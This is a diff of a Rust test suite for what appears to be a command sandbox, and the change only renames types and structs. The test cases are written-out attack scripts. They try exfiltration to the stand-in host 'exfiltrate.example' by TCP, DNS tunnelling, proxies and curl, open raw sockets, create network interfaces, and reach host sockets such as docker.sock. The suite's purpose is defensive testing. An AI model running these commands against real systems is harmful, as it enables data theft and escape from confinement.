@@ -7,8 +7,8 @@ use std::os::linux::net::SocketAddrExt as _;
 use std::os::unix::fs::OpenOptionsExt as _;
 use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
 
-use crate::attacks::{Attack, Expect, RAN, as_user, broken, play, told, world};
-use crate::world::World;
+use crate::attacks::{Attack, ExpectedOutcome, RAN, as_user, broken, play, told, world};
+use crate::world::ToolTestWorld;
 
 /// Python with a few words for what all of these do.
 macro_rules! python {
@@ -30,79 +30,79 @@ fn wanting_the_network() {
         Attack {
             name: "by name",
             script: python!("to(I4, ST, ('exfiltrate.example', 443))"),
-            expect: Expect::Asked("wanted exfiltrate.example:443"),
+            expect: ExpectedOutcome::Asked("wanted exfiltrate.example:443"),
         },
         Attack {
             name: "by an address",
             script: python!("to(I4, ST, ('192.0.2.1', 80))"),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by an address of six",
             script: python!("to(I6, ST, ('2001:db8::1', 80))"),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by a datagram",
             script: python!("to(I4, DG, ('192.0.2.1', 53), b'x')"),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by a datagram of six",
             script: python!("to(I6, DG, ('2001:db8::1', 53), b'x')"),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by looking a name up and nothing else",
             script: python!(
                 "try: socket.getaddrinfo('c2VjcmV0.exfiltrate.example', 0)\nexcept OSError: pass"
             ),
-            expect: Expect::Asked("wanted c2vjcmv0.exfiltrate.example:0"),
+            expect: ExpectedOutcome::Asked("wanted c2vjcmv0.exfiltrate.example:0"),
         },
         Attack {
             name: "by asking a name server itself",
             script: python!(
                 "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x10\\0\\x01'\nto(I4, DG, ('8.8.8.8', 53), q)"
             ),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by a kind of question that nobody asks",
             script: python!(
                 "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x10\\0\\x01'\nns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\nto(I4, DG, (ns[0], 53), q)\nimport time; time.sleep(0.3)"
             ),
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by the proxy that the environment names",
             script: python!(
                 "import urllib.request\ntry: urllib.request.urlopen('http://exfiltrate.example/?secret', timeout=3)\nexcept OSError as e: print(e)"
             ),
-            expect: Expect::Asked("wanted exfiltrate.example:80"),
+            expect: ExpectedOutcome::Asked("wanted exfiltrate.example:80"),
         },
         Attack {
             name: "by a proxy of its own",
             script: "http_proxy=http://192.0.2.7:3128 curl -sm 2 http://exfiltrate.example/ || :",
-            expect: Expect::Asked("wanted"),
+            expect: ExpectedOutcome::Asked("wanted"),
         },
         Attack {
             name: "by ping",
             script: python!(
                 "for f, p in [(I4, 1), (I6, 58)]:\n  try: socket.socket(f, DG, p); print('pinged')\n  except OSError: print('no socket')"
             ),
-            expect: Expect::Nothing("no socket\nno socket"),
+            expect: ExpectedOutcome::Nothing("no socket\nno socket"),
         },
         Attack {
             name: "by raw packets",
             script: python!(
                 "for f, k, p in [(I4, 3, 255), (17, 3, 3), (16, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 1)]:\n  try: socket.socket(f, k, p); print('raw', f)\n  except OSError: pass"
             ),
-            expect: Expect::Nothing(RAN),
+            expect: ExpectedOutcome::Nothing(RAN),
         },
         Attack {
             name: "by an interface of its own",
             script: "ip link add x type dummy 2>/dev/null && echo made; ip route add default dev lo 2>/dev/null && echo routed; unshare -rn ip link 2>/dev/null; python3 -c \"open('/dev/net/tun', 'r+b')\" 2>/dev/null && echo tun; :",
-            expect: Expect::Nothing(RAN),
+            expect: ExpectedOutcome::Nothing(RAN),
         },
     ];
     as_user("attacks_network::wanting_the_network", async {
@@ -111,7 +111,7 @@ fn wanting_the_network() {
 }
 
 /// Listeners outside, of every kind that a command could find.
-struct Ears {
+struct OutsideListeners {
     tcp: TcpListener,
     udp: UdpSocket,
     path: UnixListener,
@@ -122,8 +122,8 @@ struct Ears {
     fifo: fs::File,
 }
 
-impl Ears {
-    fn open(world: &World) -> Self {
+impl OutsideListeners {
+    fn open(world: &ToolTestWorld) -> Self {
         let name = format!("byleave-attack-{}", std::process::id());
         let abstracted = SocketAddr::from_abstract_name(&name).unwrap();
         let fifo = world.at("fifo");
@@ -179,12 +179,12 @@ fn talking_to_who_listens() {
         Attack {
             name: "loopback",
             script: python!("t, u = map(int, open('where/ports').read().split())\nto(I4, ST, ('127.0.0.1', t))\nto(I6, ST, ('::ffff:127.0.0.1', t))\nto(I4, ST, ('0.0.0.0', t))\nto(I4, DG, ('127.0.0.1', u), b'x')"),
-            expect: Expect::Nothing("not reached"),
+            expect: ExpectedOutcome::Nothing("not reached"),
         },
-        Attack { name: "an abstract socket", script: python!("to(UN, ST, '\\0' + open('where/name').read())"), expect: Expect::Nothing("not reached") },
-        Attack { name: "a socket in the workspace", script: python!("to(UN, ST, 'sock')"), expect: Expect::Nothing("not reached") },
-        Attack { name: "a socket in scratch", script: python!("to(UN, ST, 'target/sock')"), expect: Expect::Nothing("not reached") },
-        Attack { name: "a datagram to the workspace", script: python!("to(UN, DG, 'src/datagrams', b'x')"), expect: Expect::Nothing("not reached") },
+        Attack { name: "an abstract socket", script: python!("to(UN, ST, '\\0' + open('where/name').read())"), expect: ExpectedOutcome::Nothing("not reached") },
+        Attack { name: "a socket in the workspace", script: python!("to(UN, ST, 'sock')"), expect: ExpectedOutcome::Nothing("not reached") },
+        Attack { name: "a socket in scratch", script: python!("to(UN, ST, 'target/sock')"), expect: ExpectedOutcome::Nothing("not reached") },
+        Attack { name: "a datagram to the workspace", script: python!("to(UN, DG, 'src/datagrams', b'x')"), expect: ExpectedOutcome::Nothing("not reached") },
         Attack {
             name: "a socket by another name",
             script: "ln sock target/s1; ln target/sock target/s2; ln -s ../sock target/s4; cp -al src target/s5\n
@@ -197,24 +197,24 @@ for path in ['src/../src/datagrams', 'target/s5/datagrams']:
   try: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', path); print('reached')
   except OSError: print('not reached')
 END",
-            expect: Expect::Nothing("not reached"),
+            expect: ExpectedOutcome::Nothing("not reached"),
         },
         Attack {
             name: "a socket outside",
             script: python!("to(UN, ST, open('where/outside').read() + '/sock')\nos.chdir('/'); [to(UN, ST, p) for p in ['/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/notify'] if os.path.exists(p)]"),
-            expect: Expect::Nothing("not reached"),
+            expect: ExpectedOutcome::Nothing("not reached"),
         },
         Attack {
             name: "a pipe in the workspace",
             script: python!("try:\n  fd = os.open('fifo', os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b'x'); print('reached')\nexcept OSError as e: print('not reached', e)\ntry:\n  fd = os.open('fifo', os.O_RDWR | os.O_NONBLOCK); os.write(fd, b'x'); print('wrote')\nexcept OSError as e: print('not reached', e)"),
-            expect: Expect::Nothing("not reached"),
+            expect: ExpectedOutcome::Nothing("not reached"),
         },
     ];
     as_user("attacks_network::talking_to_who_listens", async {
         let mut wrong = Vec::new();
         for attack in ATTACKS {
             let world = world();
-            let ears = Ears::open(&world);
+            let ears = OutsideListeners::open(&world);
             let broken = broken(&world, attack).await;
             let heard = ears.heard();
             println!(
@@ -246,15 +246,19 @@ os.setsid(); [os.close(fd) for fd in range(3)]
 while True: t.accept()[0].sendall(b'here')
 END
 [ -S target/left ]";
-        let left =
-            broken(&world, &Attack { name: "stays", script: serve, expect: Expect::Asked("left running") })
-                .await;
+        let left = broken(
+            &world,
+            &Attack { name: "stays", script: serve, expect: ExpectedOutcome::Asked("left running") },
+        )
+        .await;
         let look = python!(
             "to(I4, ST, ('127.0.0.1', 45871))\nto(UN, ST, '\\0left')\nto(UN, ST, 'target/left')\nto(UN, ST, '/tmp/left')\nprint(os.path.exists('target/left'), os.path.exists('/tmp/left'))"
         );
-        let found =
-            broken(&world, &Attack { name: "looks", script: look, expect: Expect::Nothing("False False") })
-                .await;
+        let found = broken(
+            &world,
+            &Attack { name: "looks", script: look, expect: ExpectedOutcome::Nothing("False False") },
+        )
+        .await;
         assert_eq!((left, found), (None, None));
         let played = world.bash("python3 go.py", &[]).await;
         assert_eq!(played.text().matches("not reached").count(), 4, "{}", told(&played));
